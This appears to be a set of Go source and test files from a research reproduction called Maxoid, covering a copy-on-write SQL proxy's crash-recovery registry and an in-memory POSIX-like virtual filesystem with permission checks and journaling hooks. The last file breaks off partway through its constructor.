	return c.p.db.Query(sql, args...)
}

// orderByColumns extracts plain column names from an ORDER BY clause.
func orderByColumns(orderBy string) []string {
	var out []string
	for _, term := range strings.Split(orderBy, ",") {
		fields := strings.Fields(strings.TrimSpace(term))
		if len(fields) == 0 {
			continue
		}
		col := fields[0]
		// Skip expressions and numeric indexes; only bare identifiers
		// need the footnote-5 workaround.
		if strings.ContainsAny(col, "()+-*/%'\"") {
			continue
		}
		if col >= "0" && col <= "99999" {
			continue
		}
		out = append(out, col)
	}
	return out
}

func indexOfFold(list []string, s string) int {
	for i, x := range list {
		if strings.EqualFold(x, s) {
			return i
		}
	}
	return -1
}
