// Durable COW registry: the proxy's in-memory deltas/cowViews maps
// record which per-initiator machinery exists, but after a crash the
// maps are gone while the replayed database still contains the delta
// tables, COW views, and triggers. The _cow_registry table makes the
// maps reconstructible: every successful synthesis appends a row (and
// every discard removes them) through the same journaled Exec path as
// the DDL itself, so the registry and the machinery it describes are
// recovered from the same WAL prefix. AdoptRecovered rebuilds the maps
// from the registry and repairs the one window the prefix leaves open:
// a crash after the DDL but before the registry insert leaves orphan
// machinery the registry does not know about, which adoption drops
// (synthesis is all-or-nothing, and an unregistered synthesis never
// acked).
package cowproxy

import (
	"sort"
	"strings"

	"maxoid/internal/fault"
)

// registryTable holds one row per synthesized COW object set.
const registryTable = "_cow_registry"

// Registry kinds: a "delta" row covers the delta table, the table COW
// view, and its triggers (created as one unit); a "view" row covers a
// user-view COW view.
const (
	registryKindDelta = "delta"
	registryKindView  = "view"
)

// ensureRegistry creates the registry table on first use. The caller
// must hold p.mu.
func (p *Proxy) ensureRegistry() error {
	if p.haveRegistry {
		return nil
	}
	_, err := p.db.Exec("CREATE TABLE IF NOT EXISTS " + registryTable +
		" (_id INTEGER PRIMARY KEY, base TEXT NOT NULL, initiator TEXT NOT NULL, kind TEXT NOT NULL)")
	if err == nil {
		p.haveRegistry = true
	}
	return err
}

// registryAdd records a synthesized object set. The initiator is kept
// raw (sanitize is lossy), so adoption restores the exact map keys.
func (p *Proxy) registryAdd(base, initiator, kind string) error {
	if err := p.ensureRegistry(); err != nil {
		return err
	}
	_, err := p.db.Exec("INSERT INTO "+registryTable+" (base, initiator, kind) VALUES (?, ?, ?)",
		base, initiator, kind)
	return err
}

// registryRemove deletes the row for one object set, if any.
func (p *Proxy) registryRemove(base, initiator, kind string) {
	if !p.haveRegistry && !p.db.HasTable(registryTable) {
		return
	}
	p.haveRegistry = true
	_, _ = p.db.Exec("DELETE FROM "+registryTable+" WHERE base = ? AND initiator = ? AND kind = ?",
		base, initiator, kind)
}

// registryDiscard deletes all of an initiator's rows.
func (p *Proxy) registryDiscard(initiator string) {
	if !p.haveRegistry && !p.db.HasTable(registryTable) {
		return
	}
	p.haveRegistry = true
	_, _ = p.db.Exec("DELETE FROM "+registryTable+" WHERE initiator = ?", initiator)
}

// AdoptRecovered rebuilds the proxy's in-memory machinery maps from the
// durable registry after a crash-recovery reopen. Call it after the
// provider has re-registered its tables and views (RegisterTable /
// RegisterUserView are idempotent against a replayed schema).
//
// Adoption also repairs the two inconsistencies a crash can leave:
// orphan delta tables or COW views whose synthesis never reached its
// registry insert are dropped, and every admin view is rebuilt so its
// arms match the adopted delta set exactly.
func (p *Proxy) AdoptRecovered() error {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.gen.Add(1)
	if !p.db.HasTable(registryTable) {
		return nil
	}
	p.haveRegistry = true
	rows, err := p.db.Query("SELECT base, initiator, kind FROM " + registryTable + " ORDER BY _id")
	if err != nil {
		return err
	}
	for _, row := range rows.Data {
		base, _ := row[0].(string)
		initiator, _ := row[1].(string)
		kind, _ := row[2].(string)
		key := strings.ToLower(base)
		switch kind {
		case registryKindDelta:
			if p.deltas[key] == nil {
				p.deltas[key] = make(map[string]bool)
			}
			p.deltas[key][initiator] = true
			if p.cowViews[key] == nil {
				p.cowViews[key] = make(map[string]bool)
			}
			p.cowViews[key][initiator] = true
		case registryKindView:
			if p.cowViews[key] == nil {
				p.cowViews[key] = make(map[string]bool)
			}
			p.cowViews[key][initiator] = true
		}
	}
	return p.repairRecovered()
}

// repairRecovered drops machinery the registry does not account for and
// rebuilds the admin views. Repair is recovery cleanup, not workload:
// it must not be re-injected. The caller must hold p.mu.
func (p *Proxy) repairRecovered() error {
	fault.Suspend()
	defer fault.Resume()

	// Names adoption expects to exist, lowercased.
	expectTables := map[string]bool{}
	expectViews := map[string]bool{}
	for key, m := range p.deltas {
		info, ok := p.primaries[key]
		if !ok {
			continue
		}
		for init := range m {
			expectTables[strings.ToLower(DeltaTableName(info.name, init))] = true
			expectViews[strings.ToLower(COWViewName(info.name, init))] = true
		}
	}
	for key, m := range p.cowViews {
		uv, ok := p.userViews[key]
		if !ok {
			continue
		}
		for init := range m {
			expectViews[strings.ToLower(COWViewName(uv.name, init))] = true
		}
	}

	// Orphan COW views first (they may read orphan delta tables).
	// DROP VIEW removes the view's triggers with it.
	for _, name := range p.db.ViewNames() {
		if !p.orphanCOWView(name, expectViews) {
			continue
		}
		if _, err := p.db.Exec("DROP VIEW IF EXISTS " + name); err != nil {
			return err
		}
	}
	for _, name := range p.db.TableNames() {
		if !p.orphanDeltaTable(name, expectTables) {
			continue
		}
		if _, err := p.db.Exec("DROP TABLE IF EXISTS " + name); err != nil {
			return err
		}
	}

	keys := make([]string, 0, len(p.primaries))
	for key := range p.primaries {
		keys = append(keys, key)
	}
	sort.Strings(keys)
	for _, key := range keys {
		if err := p.rebuildAdminView(p.primaries[key]); err != nil {
			return err
		}
	}
	return nil
}

// orphanDeltaTable reports whether name is a delta table of a
// registered primary that the registry does not list.
func (p *Proxy) orphanDeltaTable(name string, expect map[string]bool) bool {
	low := strings.ToLower(name)
	if expect[low] {
		return false
	}
	for key := range p.primaries {
		if strings.HasPrefix(low, key+"_delta_") {
			return true
		}
	}
	return false
}

// orphanCOWView reports whether name is a COW view of a registered base
// (primary table or user view) that the registry does not list.
func (p *Proxy) orphanCOWView(name string, expect map[string]bool) bool {
	low := strings.ToLower(name)
	if expect[low] {
		return false
	}
	for key := range p.primaries {
		if strings.HasPrefix(low, key+"_view_") {
			return true
		}
	}
	for key := range p.userViews {
		if strings.HasPrefix(low, key+"_view_") {
			return true
		}
	}
	return false
}
