package vfs

import (
	"bytes"
	"errors"
	"io"
	"testing"
)

func TestMkdirAndStat(t *testing.T) {
	f := New()
	if err := f.MkdirAll(Root, "/data/data/app", 0o755); err != nil {
		t.Fatalf("MkdirAll: %v", err)
	}
	info, err := f.Stat(Root, "/data/data/app")
	if err != nil {
		t.Fatalf("Stat: %v", err)
	}
	if !info.IsDir() {
		t.Errorf("expected directory, got mode %v", info.Mode)
	}
	if info.Name != "app" {
		t.Errorf("Name = %q, want %q", info.Name, "app")
	}
}

func TestMkdirExisting(t *testing.T) {
	f := New()
	if err := f.Mkdir(Root, "/a", 0o755); err != nil {
		t.Fatalf("Mkdir: %v", err)
	}
	if err := f.Mkdir(Root, "/a", 0o755); !errors.Is(err, ErrExist) {
		t.Errorf("second Mkdir error = %v, want ErrExist", err)
	}
	// MkdirAll over existing path is fine.
	if err := f.MkdirAll(Root, "/a", 0o755); err != nil {
		t.Errorf("MkdirAll over existing: %v", err)
	}
}

func TestMkdirMissingParent(t *testing.T) {
	f := New()
	if err := f.Mkdir(Root, "/no/such/dir", 0o755); !errors.Is(err, ErrNotExist) {
		t.Errorf("Mkdir error = %v, want ErrNotExist", err)
	}
}

func TestWriteReadFile(t *testing.T) {
	f := New()
	want := []byte("hello maxoid")
	if err := WriteFile(f, Root, "/f.txt", want, 0o644); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	got, err := ReadFile(f, Root, "/f.txt")
	if err != nil {
		t.Fatalf("ReadFile: %v", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("ReadFile = %q, want %q", got, want)
	}
}

func TestOpenFlags(t *testing.T) {
	f := New()
	if _, err := f.Open(Root, "/missing", O_RDONLY, 0); !errors.Is(err, ErrNotExist) {
		t.Errorf("open missing: %v, want ErrNotExist", err)
	}
	h, err := f.Open(Root, "/new", O_WRONLY|O_CREATE, 0o644)
	if err != nil {
		t.Fatalf("create: %v", err)
	}
	h.Close()
	if _, err := f.Open(Root, "/new", O_WRONLY|O_CREATE|O_EXCL, 0o644); !errors.Is(err, ErrExist) {
		t.Errorf("O_EXCL on existing: %v, want ErrExist", err)
	}
}

func TestTruncateOnOpen(t *testing.T) {
	f := New()
	if err := WriteFile(f, Root, "/f", []byte("0123456789"), 0o644); err != nil {
		t.Fatal(err)
	}
	h, err := f.Open(Root, "/f", O_WRONLY|O_TRUNC, 0)
	if err != nil {
		t.Fatalf("open trunc: %v", err)
	}
	h.Close()
	info, _ := f.Stat(Root, "/f")
	if info.Size != 0 {
		t.Errorf("size after O_TRUNC = %d, want 0", info.Size)
	}
}

func TestAppendMode(t *testing.T) {
	f := New()
	if err := WriteFile(f, Root, "/log", []byte("aa"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := AppendFile(f, Root, "/log", []byte("bb"), 0o644); err != nil {
		t.Fatal(err)
	}
	got, _ := ReadFile(f, Root, "/log")
	if string(got) != "aabb" {
		t.Errorf("append result = %q, want %q", got, "aabb")
	}
}

func TestSeekAndReadAt(t *testing.T) {
	f := New()
	if err := WriteFile(f, Root, "/f", []byte("0123456789"), 0o644); err != nil {
		t.Fatal(err)
	}
	h, err := f.Open(Root, "/f", O_RDONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	if _, err := h.Seek(4, io.SeekStart); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 3)
	if _, err := h.Read(buf); err != nil {
		t.Fatal(err)
	}
	if string(buf) != "456" {
		t.Errorf("read after seek = %q, want 456", buf)
	}
	n, err := h.ReadAt(buf, 7)
	if err != nil && err != io.EOF {
		t.Fatal(err)
	}
	if string(buf[:n]) != "789" {
		t.Errorf("ReadAt(7) = %q, want 789", buf[:n])
	}
}

func TestWriteAtSparse(t *testing.T) {
	f := New()
	h, err := f.Open(Root, "/f", O_RDWR|O_CREATE, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := h.WriteAt([]byte("xy"), 5); err != nil {
		t.Fatal(err)
	}
	h.Close()
	got, _ := ReadFile(f, Root, "/f")
	want := append(make([]byte, 5), 'x', 'y')
	if !bytes.Equal(got, want) {
		t.Errorf("sparse write = %v, want %v", got, want)
	}
}

func TestHandleTruncate(t *testing.T) {
	f := New()
	if err := WriteFile(f, Root, "/f", []byte("0123456789"), 0o644); err != nil {
		t.Fatal(err)
	}
	h, err := f.Open(Root, "/f", O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	if err := h.Truncate(4); err != nil {
		t.Fatal(err)
	}
	if err := h.Truncate(6); err != nil {
		t.Fatal(err)
	}
	h.Close()
	got, _ := ReadFile(f, Root, "/f")
	want := []byte{'0', '1', '2', '3', 0, 0}
	if !bytes.Equal(got, want) {
		t.Errorf("truncate grow = %v, want %v", got, want)
	}
}

func TestRemove(t *testing.T) {
	f := New()
	if err := f.MkdirAll(Root, "/d/sub", 0o755); err != nil {
		t.Fatal(err)
	}
	if err := WriteFile(f, Root, "/d/sub/f", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := f.Remove(Root, "/d/sub"); !errors.Is(err, ErrNotEmpty) {
		t.Errorf("remove non-empty dir: %v, want ErrNotEmpty", err)
	}
	if err := f.Remove(Root, "/d/sub/f"); err != nil {
		t.Fatal(err)
	}
	if err := f.Remove(Root, "/d/sub"); err != nil {
		t.Fatal(err)
	}
	if Exists(f, Root, "/d/sub") {
		t.Error("dir still exists after remove")
	}
}

func TestRemoveAll(t *testing.T) {
	f := New()
	if err := f.MkdirAll(Root, "/d/a/b", 0o755); err != nil {
		t.Fatal(err)
	}
	if err := WriteFile(f, Root, "/d/a/b/f", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := f.RemoveAll(Root, "/d"); err != nil {
		t.Fatal(err)
	}
	if Exists(f, Root, "/d") {
		t.Error("tree still exists after RemoveAll")
	}
	// RemoveAll of a missing path is not an error.
	if err := f.RemoveAll(Root, "/nope/deep"); err != nil {
		t.Errorf("RemoveAll missing: %v", err)
	}
}

func TestRename(t *testing.T) {
	f := New()
	if err := f.MkdirAll(Root, "/a", 0o755); err != nil {
		t.Fatal(err)
	}
	if err := f.MkdirAll(Root, "/b", 0o755); err != nil {
		t.Fatal(err)
	}
	if err := WriteFile(f, Root, "/a/f", []byte("data"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := f.Rename(Root, "/a/f", "/b/g"); err != nil {
		t.Fatal(err)
	}
	if Exists(f, Root, "/a/f") {
		t.Error("source still exists after rename")
	}
	got, err := ReadFile(f, Root, "/b/g")
	if err != nil || string(got) != "data" {
		t.Errorf("dest = %q, %v", got, err)
	}
}

func TestReadDirSorted(t *testing.T) {
	f := New()
	for _, name := range []string{"/c", "/a", "/b"} {
		if err := WriteFile(f, Root, name, nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	entries, err := f.ReadDir(Root, "/")
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range entries {
		names = append(names, e.Name)
	}
	want := []string{"a", "b", "c"}
	for i := range want {
		if names[i] != want[i] {
			t.Fatalf("ReadDir order = %v, want %v", names, want)
		}
	}
}

func TestPermissionsOwnerAndOther(t *testing.T) {
	f := New()
	alice, bob := Cred{UID: 100}, Cred{UID: 200}
	if err := f.MkdirAll(Root, "/home", 0o777); err != nil {
		t.Fatal(err)
	}
	if err := WriteFile(f, alice, "/home/secret", []byte("s"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadFile(f, bob, "/home/secret"); !errors.Is(err, ErrPermission) {
		t.Errorf("bob read 0600 file: %v, want ErrPermission", err)
	}
	if _, err := ReadFile(f, alice, "/home/secret"); err != nil {
		t.Errorf("alice read own file: %v", err)
	}
	if _, err := ReadFile(f, Root, "/home/secret"); err != nil {
		t.Errorf("root read: %v", err)
	}
	// World-readable file is readable by bob but not writable.
	if err := WriteFile(f, alice, "/home/pub", []byte("p"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadFile(f, bob, "/home/pub"); err != nil {
		t.Errorf("bob read 0644: %v", err)
	}
	if err := WriteFile(f, bob, "/home/pub", []byte("x"), 0o644); !errors.Is(err, ErrPermission) {
		t.Errorf("bob write 0644 file: %v, want ErrPermission", err)
	}
}

func TestDirWritePermission(t *testing.T) {
	f := New()
	alice, bob := Cred{UID: 100}, Cred{UID: 200}
	if err := f.MkdirAll(Root, "/priv", 0o755); err != nil {
		t.Fatal(err)
	}
	if err := f.Chown(Root, "/priv", alice.UID); err != nil {
		t.Fatal(err)
	}
	if err := WriteFile(f, bob, "/priv/f", []byte("x"), 0o644); !errors.Is(err, ErrPermission) {
		t.Errorf("bob create in alice dir: %v, want ErrPermission", err)
	}
	if err := WriteFile(f, alice, "/priv/f", []byte("x"), 0o644); err != nil {
		t.Errorf("alice create in own dir: %v", err)
	}
	if err := f.Remove(bob, "/priv/f"); !errors.Is(err, ErrPermission) {
		t.Errorf("bob remove from alice dir: %v, want ErrPermission", err)
	}
}

func TestChmodChown(t *testing.T) {
	f := New()
	alice, bob := Cred{UID: 100}, Cred{UID: 200}
	if err := f.MkdirAll(Root, "/d", 0o777); err != nil {
		t.Fatal(err)
	}
	if err := WriteFile(f, alice, "/d/f", []byte("x"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := f.Chmod(bob, "/d/f", 0o666); !errors.Is(err, ErrPermission) {
		t.Errorf("bob chmod alice file: %v, want ErrPermission", err)
	}
	if err := f.Chmod(alice, "/d/f", 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadFile(f, bob, "/d/f"); err != nil {
		t.Errorf("bob read after chmod 644: %v", err)
	}
	if err := f.Chown(alice, "/d/f", bob.UID); err != nil {
		t.Fatal(err)
	}
	info, _ := f.Stat(Root, "/d/f")
	if info.UID != bob.UID {
		t.Errorf("UID after chown = %d, want %d", info.UID, bob.UID)
	}
}

func TestOpenDirectoryFails(t *testing.T) {
	f := New()
	if err := f.Mkdir(Root, "/d", 0o755); err != nil {
		t.Fatal(err)
	}
	if _, err := f.Open(Root, "/d", O_RDONLY, 0); !errors.Is(err, ErrIsDir) {
		t.Errorf("open dir: %v, want ErrIsDir", err)
	}
	if _, err := f.ReadDir(Root, "/d/.."); err != nil {
		t.Errorf("readdir with dotdot: %v", err)
	}
}

func TestPathCleaning(t *testing.T) {
	f := New()
	if err := f.MkdirAll(Root, "/a/b", 0o755); err != nil {
		t.Fatal(err)
	}
	if err := WriteFile(f, Root, "a/b/../b/./f", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	got, err := ReadFile(f, Root, "/a/b/f")
	if err != nil || string(got) != "x" {
		t.Errorf("cleaned path read = %q, %v", got, err)
	}
	// Escaping above root clamps at root.
	if _, err := f.Stat(Root, "/../../a"); err != nil {
		t.Errorf("stat above-root path: %v", err)
	}
}

func TestSubFS(t *testing.T) {
	f := New()
	if err := f.MkdirAll(Root, "/data/app1", 0o755); err != nil {
		t.Fatal(err)
	}
	sub := Sub(f, "/data/app1")
	if err := WriteFile(sub, Root, "/cfg", []byte("v"), 0o644); err != nil {
		t.Fatal(err)
	}
	got, err := ReadFile(f, Root, "/data/app1/cfg")
	if err != nil || string(got) != "v" {
		t.Errorf("sub write visible at base = %q, %v", got, err)
	}
	// Sub cannot escape its prefix.
	if err := WriteFile(sub, Root, "/../escape", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if Exists(f, Root, "/data/escape") {
		t.Error("sub escaped its prefix via ..")
	}
	if !Exists(f, Root, "/data/app1/escape") {
		t.Error("escape attempt not clamped into prefix")
	}
}

func TestWalkAndTree(t *testing.T) {
	f := New()
	if err := f.MkdirAll(Root, "/r/a", 0o755); err != nil {
		t.Fatal(err)
	}
	if err := WriteFile(f, Root, "/r/a/f1", []byte("1"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := WriteFile(f, Root, "/r/f2", []byte("2"), 0o644); err != nil {
		t.Fatal(err)
	}
	tree, err := Tree(f, Root, "/r")
	if err != nil {
		t.Fatal(err)
	}
	if len(tree) != 2 || string(tree["/r/a/f1"]) != "1" || string(tree["/r/f2"]) != "2" {
		t.Errorf("Tree = %v", tree)
	}
}

func TestCopyFile(t *testing.T) {
	f := New()
	if err := WriteFile(f, Root, "/src", []byte("payload"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := CopyFile(f, f, Root, "/src", "/deep/dir/dst", 0o644); err != nil {
		t.Fatal(err)
	}
	got, err := ReadFile(f, Root, "/deep/dir/dst")
	if err != nil || string(got) != "payload" {
		t.Errorf("copy dst = %q, %v", got, err)
	}
}

func TestClosedHandle(t *testing.T) {
	f := New()
	h, err := f.Open(Root, "/f", O_RDWR|O_CREATE, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	if err := h.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := h.Write([]byte("x")); !errors.Is(err, ErrClosed) {
		t.Errorf("write after close: %v, want ErrClosed", err)
	}
	if err := h.Close(); !errors.Is(err, ErrClosed) {
		t.Errorf("double close: %v, want ErrClosed", err)
	}
}

func TestConcurrentWriters(t *testing.T) {
	f := New()
	if err := f.MkdirAll(Root, "/d", 0o777); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 8)
	for i := 0; i < 8; i++ {
		go func(i int) {
			name := string(rune('a' + i))
			for j := 0; j < 50; j++ {
				if err := WriteFile(f, Root, "/d/"+name, []byte{byte(j)}, 0o644); err != nil {
					done <- err
					return
				}
			}
			done <- nil
		}(i)
	}
	for i := 0; i < 8; i++ {
		if err := <-done; err != nil {
			t.Fatal(err)
		}
	}
	entries, err := f.ReadDir(Root, "/d")
	if err != nil || len(entries) != 8 {
		t.Errorf("entries = %d, %v", len(entries), err)
	}
}

func TestHandleSurvivesRemove(t *testing.T) {
	// POSIX: an open file stays readable after unlink; the inode lives
	// until the last handle closes. Delegates killed mid-operation rely
	// on this not corrupting state.
	f := New()
	if err := WriteFile(f, Root, "/f", []byte("content"), 0o644); err != nil {
		t.Fatal(err)
	}
	h, err := f.Open(Root, "/f", O_RDONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	if err := f.Remove(Root, "/f"); err != nil {
		t.Fatal(err)
	}
	got, err := io.ReadAll(h)
	if err != nil || string(got) != "content" {
		t.Errorf("read after remove = %q, %v", got, err)
	}
	if Exists(f, Root, "/f") {
		t.Error("file still visible after remove")
	}
}

func TestHandleFollowsRename(t *testing.T) {
	f := New()
	if err := WriteFile(f, Root, "/old", []byte("v"), 0o644); err != nil {
		t.Fatal(err)
	}
	h, err := f.Open(Root, "/old", O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	if err := f.Rename(Root, "/old", "/new"); err != nil {
		t.Fatal(err)
	}
	// Writes through the open handle land in the renamed file.
	if _, err := h.Write([]byte("2")); err != nil {
		t.Fatal(err)
	}
	got, err := ReadFile(f, Root, "/new")
	if err != nil || string(got) != "2" {
		t.Errorf("renamed file = %q, %v", got, err)
	}
}

func TestTraversalPermission(t *testing.T) {
	f := New()
	secret := Cred{UID: 42}
	if err := f.MkdirAll(Root, "/vault", 0o700); err != nil {
		t.Fatal(err)
	}
	if err := f.Chown(Root, "/vault", secret.UID); err != nil {
		t.Fatal(err)
	}
	if err := WriteFile(f, secret, "/vault/f", []byte("x"), 0o666); err != nil {
		t.Fatal(err)
	}
	// The file itself is world-readable, but the directory blocks
	// traversal for other UIDs — the property delegate branches rely on.
	other := Cred{UID: 43}
	if _, err := ReadFile(f, other, "/vault/f"); !errors.Is(err, ErrPermission) {
		t.Errorf("traversal through 0700 dir: %v, want ErrPermission", err)
	}
	if _, err := f.Stat(other, "/vault/f"); !errors.Is(err, ErrPermission) {
		t.Errorf("stat through 0700 dir: %v, want ErrPermission", err)
	}
	if _, err := ReadFile(f, secret, "/vault/f"); err != nil {
		t.Errorf("owner traversal: %v", err)
	}
}
