package vfs

import (
	"io/fs"
)

// Journal receives one call per successful tree mutation, in the
// order the per-node locks serialized them — the hook fires while the
// mutating operation still holds the lock that ordered it, so journal
// order always matches effect order. A durability layer (internal/wal)
// implements Journal by appending a logical record and syncing; vfs
// itself knows nothing about encoding or storage.
//
// A non-nil error fails the vfs operation that triggered the hook
// even though the in-memory mutation already happened: the caller
// must treat the operation as not durable, and the journal
// implementation is expected to fail-stop (poison) so in-memory state
// cannot silently run ahead of the log across many operations.
//
// Implementations must not call back into the FS and must not retain
// the data slice past the call.
type Journal interface {
	// Create records the creation of an empty file.
	Create(path string, mode fs.FileMode, uid int) error
	// WriteAt records data written at a byte offset.
	WriteAt(path string, off int64, data []byte) error
	// Truncate records a size change (both shrink and zero-fill grow).
	Truncate(path string, size int64) error
	// Mkdir records the creation of a single directory.
	Mkdir(path string, mode fs.FileMode, uid int) error
	Remove(path string) error
	RemoveAll(path string) error
	Rename(oldpath, newpath string) error
	Chmod(path string, mode fs.FileMode) error
	Chown(path string, uid int) error
}

// WriteGate is optionally implemented by a Journal whose backing store
// can degrade. Mutating operations consult it after validation but
// BEFORE touching any in-memory state: a non-nil error (typically
// health.ErrReadOnly from a degraded store, or the store's poison
// error) rejects the operation cleanly — nothing mutated, nothing
// journaled — so the caller can safely retry once the store heals.
// This is the complement of the Journal error contract above, which
// fires after mutation; the gate is what keeps routine degraded-mode
// rejections from leaving memory ahead of the log.
type WriteGate interface {
	WriteGate() error
}

// writeGate consults the attached journal's write gate, if any.
// Returns nil when no journal is attached or the journal does not
// gate.
func (f *FS) writeGate() error {
	if g, ok := f.journal().(WriteGate); ok {
		return g.WriteGate()
	}
	return nil
}

// journalBox wraps a Journal for atomic.Value (which needs one
// consistent concrete type and cannot hold bare nil).
type journalBox struct{ j Journal }

// SetJournal attaches (or, with nil, detaches) the mutation journal.
// Attach before the filesystem starts serving writers; swapping
// journals mid-flight is atomic per operation but provides no
// cross-operation ordering guarantee.
func (f *FS) SetJournal(j Journal) {
	f.jrn.Store(journalBox{j})
}

// journal returns the attached journal, nil when detached. One atomic
// load; free when no durability layer is attached.
func (f *FS) journal() Journal {
	v := f.jrn.Load()
	if v == nil {
		return nil
	}
	return v.(journalBox).j
}
