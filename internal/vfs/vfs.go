// Package vfs implements an in-memory, hierarchical, POSIX-like virtual
// filesystem with per-file ownership and permission checks.
//
// It is the storage substrate for the Maxoid reproduction: Android's
// internal storage, external storage (SD card), and all private app
// directories are directories inside a single shared *FS ("the disk").
// Union filesystems (package unionfs) and mount namespaces (package
// mount) are layered on top of the FileSystem interface defined here.
//
// Paths are slash-separated and interpreted relative to the filesystem
// root; a leading slash is optional and ignored. Path elements "." and
// ".." are resolved lexically.
//
// # Locking
//
// The tree uses per-node read/write locks with hand-over-hand
// ("crabbing") traversal: a walk holds at most two node locks at a
// time, always parent before child, so operations on disjoint subtrees
// (different apps' private directories) proceed in parallel. A
// filesystem-wide rename barrier (treeMu) is held shared by every
// path operation and exclusively by Rename — the only operation that
// involves two parent directories — which keeps the crabbing order
// acyclic without ancestor-ordering gymnastics, mirroring the kernel's
// s_vfs_rename_mutex. See DESIGN.md "Locking model".
package vfs

import (
	"errors"
	"io"
	"io/fs"
	"path"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"maxoid/internal/fault"
)

// Fault points on the vfs hot paths (see internal/fault). Both fire
// before any state is mutated, so an injected failure leaves the tree
// exactly as it was.
var (
	faultWrite  = fault.Declare("vfs.write", "handle.Write: I/O error or short write; only the returned prefix reaches the node")
	faultRename = fault.Declare("vfs.rename", "FS.Rename: fail before the atomic tree mutation")
)

// Error values mirror the POSIX error conditions Maxoid's enforcement
// relies on. They satisfy errors.Is against their io/fs counterparts
// where one exists.
var (
	ErrNotExist   = fs.ErrNotExist
	ErrExist      = fs.ErrExist
	ErrPermission = fs.ErrPermission
	ErrInvalid    = fs.ErrInvalid
	ErrIsDir      = errors.New("is a directory")
	ErrNotDir     = errors.New("not a directory")
	ErrNotEmpty   = errors.New("directory not empty")
	ErrReadOnly   = errors.New("read-only file system")
	ErrClosed     = errors.New("file already closed")
)

// Open flags, a subset of the POSIX open(2) flags.
const (
	O_RDONLY = 0x0
	O_WRONLY = 0x1
	O_RDWR   = 0x2
	O_CREATE = 0x40
	O_EXCL   = 0x80
	O_TRUNC  = 0x200
	O_APPEND = 0x400

	accessMask = 0x3
)

// Cred identifies the subject performing a filesystem operation.
// UID 0 is root and bypasses permission checks, as in Unix.
type Cred struct {
	UID int
}

// Root is the all-powerful credential used by trusted system services
// (Zygote, the branch manager, system content providers).
var Root = Cred{UID: 0}

// FileInfo describes a file, analogous to io/fs.FileInfo but with
// ownership attached.
type FileInfo struct {
	Name    string
	Size    int64
	Mode    fs.FileMode
	ModTime time.Time
	UID     int
}

// IsDir reports whether the entry is a directory.
func (fi FileInfo) IsDir() bool { return fi.Mode.IsDir() }

// DirEntry is a single directory listing entry.
type DirEntry struct {
	Name string
	Mode fs.FileMode
	UID  int
}

// IsDir reports whether the entry is a directory.
func (de DirEntry) IsDir() bool { return de.Mode.IsDir() }

// Handle is an open file. Handles are not safe for concurrent use by
// multiple goroutines; open one handle per goroutine instead.
type Handle interface {
	io.Reader
	io.Writer
	io.Seeker
	io.Closer
	io.ReaderAt
	io.WriterAt
	// Truncate changes the size of the open file.
	Truncate(size int64) error
	// Stat returns metadata for the open file.
	Stat() (FileInfo, error)
}

// FileSystem is the interface shared by the plain in-memory filesystem,
// sub-directory views (Sub), and union mounts (package unionfs). All
// methods take the caller's credential so permission enforcement happens
// at the lowest layer.
type FileSystem interface {
	Open(c Cred, name string, flags int, perm fs.FileMode) (Handle, error)
	Stat(c Cred, name string) (FileInfo, error)
	ReadDir(c Cred, name string) ([]DirEntry, error)
	Mkdir(c Cred, name string, perm fs.FileMode) error
	MkdirAll(c Cred, name string, perm fs.FileMode) error
	Remove(c Cred, name string) error
	RemoveAll(c Cred, name string) error
	Rename(c Cred, oldname, newname string) error
	Chown(c Cred, name string, uid int) error
	Chmod(c Cred, name string, perm fs.FileMode) error
}

// node is a file or directory in the tree. mu guards every mutable
// field; it is acquired parent-before-child during traversal.
type node struct {
	mu       sync.RWMutex
	name     string
	mode     fs.FileMode
	uid      int
	mtime    time.Time
	data     []byte           // file content (nil for directories)
	children map[string]*node // directory entries (nil for files)
}

func (n *node) isDir() bool { return n.mode.IsDir() }

func (n *node) info() FileInfo {
	return FileInfo{
		Name:    n.name,
		Size:    int64(len(n.data)),
		Mode:    n.mode,
		ModTime: n.mtime,
		UID:     n.uid,
	}
}

// LockStats is a snapshot of lock activity inside one FS, used to find
// remaining serialization points. Counters are cumulative since New.
type LockStats struct {
	// NodeAcquisitions counts per-node lock acquisitions (read or write).
	NodeAcquisitions int64
	// NodeBlocked counts node acquisitions that could not be satisfied
	// immediately (a TryLock failed and the caller had to wait).
	NodeBlocked int64
	// RenameBarriers counts exclusive whole-tree acquisitions (renames).
	RenameBarriers int64
}

// FS is the in-memory filesystem. The zero value is not usable; call New.
// All methods are safe for concurrent use.
type FS struct {
	// treeMu is the rename barrier: held shared by all single-path
	// operations (which then crab per-node locks) and exclusively by
	// Rename, the only multi-parent operation.
	treeMu sync.RWMutex
	root   *node
	clock  atomic.Value // func() time.Time
	jrn    atomic.Value // journalBox (journal.go); zero when detached

	nodeAcq     atomic.Int64
	nodeBlocked atomic.Int64
	renames     atomic.Int64
}

// New returns an empty filesystem whose root directory is owned by root
// with mode 0755.
func New() *FS {
	f := &FS{}
	f.clock.Store(time.Now)
	f.root = &node{
		name:     "/",
